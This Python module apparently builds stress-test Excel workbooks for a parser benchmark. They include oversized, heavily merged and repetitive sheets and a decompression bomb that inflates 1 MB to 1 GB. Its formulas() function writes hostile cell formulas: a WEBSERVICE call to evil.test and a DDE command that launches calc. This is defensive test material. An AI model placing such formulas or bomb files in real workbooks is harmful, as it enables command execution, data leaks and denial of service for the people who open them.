"""Workbooks whose sheets want much: long, wide, full, merged, repeating."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from benchmarks import old_workbooks as old
from benchmarks.bomb_parts import (
    COLUMNS,
    HEADER,
    MAIN,
    MEGABYTE,
    OFFICE,
    ROW,
    ROWS,
    cohort,
    letters,
    replaced,
    row,
    workbook,
)


def long_sheet() -> bytes:
    """Make a sheet of as many rows as Excel has, all filled."""
    return workbook(lambda: cohort(ROWS))


def full_sheet(rows: int, columns: int) -> bytes:
    """Make a sheet of numbers, all different."""

    def pieces() -> Iterator[bytes]:
        names = (*HEADER, *(f"c{i}" for i in range(columns - len(HEADER))))
        yield b"<sheetData>" + row(1, names)
        places = [letters(i) for i in range(len(HEADER), columns)]
        for number in range(2, rows + 1):
            told = "".join(f'<c r="{place}{number}"><v>{number}.{i}</v></c>' for i, place in enumerate(places))
            yield row(number, (f"A{number}", *ROW)).removesuffix(b"</row>") + f"{told}</row>".encode()
        yield b"</sheetData>"

    return workbook(pieces)


def wide_sheet(rows: int = 3) -> bytes:
    """Make a sheet of as many columns as Excel has."""

    def pieces() -> Iterator[bytes]:
        yield b"<sheetData>" + row(1, (*HEADER, *(f"c{i}" for i in range(COLUMNS - len(HEADER)))))
        for number in range(2, rows + 2):
            yield row(number, (f"A{number}", *ROW, *("x" for _ in range(COLUMNS - len(HEADER)))))
        yield b"</sheetData>"

    return workbook(pieces)


def merges(count: int = 200_000) -> bytes:
    """Make a small sheet with very many merged ranges, one of them over every cell."""

    def pieces() -> Iterator[bytes]:
        yield from cohort(50)
        yield f'<mergeCells count="{count}"><mergeCell ref="F1:XFD{ROWS}"/>'.encode()
        for number in range(1, count):
            yield f'<mergeCell ref="F{number}:F{number + 40}"/>'.encode()
        yield b"</mergeCells>"

    return workbook(pieces)


def merged_codes() -> bytes:
    """Make a sheet whose first patient's cell is merged down over every row."""

    def pieces() -> Iterator[bytes]:
        yield from cohort(50)
        yield f'<mergeCells count="1"><mergeCell ref="A2:A{ROWS}"/></mergeCells>'.encode()

    return workbook(pieces)


def formulas() -> bytes:
    """Make a sheet of formulas: a web service, a command, a reference to another file, one that refers to itself."""

    def pieces() -> Iterator[bytes]:
        yield b"<sheetData>" + row(1, (*HEADER, "remark"))
        told = ('WEBSERVICE("http://evil.test/a")', "cmd|' /C calc'!A0", "[1]Sheet1!A1", "E5")
        for number, formula in enumerate(told, start=2):
            cells = row(number, (f"A{number}", *ROW)).removesuffix(b"</row>")
            yield cells + f'<c r="E{number}" t="str"><f>{formula}</f><v>kept {number}</v></c></row>'.encode()
        yield b"</sheetData>"

    return workbook(pieces)


def inflating_xlsx() -> bytes:
    """Make a workbook of 1 MB whose one sheet unpacks to 1 GB."""
    spaces = b" " * MEGABYTE
    return workbook(lambda: iter([b"<sheetData>", *[spaces] * 1024, b"</sheetData>"]))


def below_the_limit() -> bytes:
    """Make a workbook whose sheet unpacks to 280 MB of empty cells: just under what is refused by size."""
    cells = row(1, ("",) * 16) * 600

    def pieces() -> Iterator[bytes]:
        yield b"<sheetData>" + row(1, HEADER) + row(2, ("A1", *ROW))
        for _ in range(280 * MEGABYTE // len(cells)):
            yield cells
        yield b"</sheetData>"

    return workbook(pieces)


def one_text_in_every_cell() -> bytes:
    """Make a workbook of one text of 30 kB that every one of 100,000 cells repeats."""
    table = f'<sst xmlns="{MAIN}"><si><t>{"x" * 30_000}</t></si></sst>'.encode()

    def pieces() -> Iterator[bytes]:
        yield b"<sheetData>" + row(1, HEADER)
        for number in range(2, 100_002):
            yield f'<row r="{number}"><c r="A{number}" t="s"><v>0</v></c></row>'.encode()
        yield b"</sheetData>"

    made = io.BytesIO(workbook(pieces, {"xl/sharedStrings.xml": table}))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        rels = archive.read("xl/_rels/workbook.xml.rels")
    more = f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    rels = rels.replace(b"</Relationships>", more.encode())
    return replaced(made.getvalue(), {"xl/_rels/workbook.xml.rels": rels})


def old_workbook(rows: int, text: str) -> bytes:
    """Make an xls of one text that a cell of every row names."""
    words = (*HEADER, *ROW, text)
    cells = [old.named(0, i, i) for i in range(len(HEADER))]
    for number in range(1, rows):
        cells.append(old.number(number, 0, number))
        cells += [old.named(number, i, len(HEADER) + i - 1) for i in range(1, len(ROW) + 1)]
        cells.append(old.named(number, 4, len(words) - 1))
    return old.book(old.texts(words), b"".join(cells))
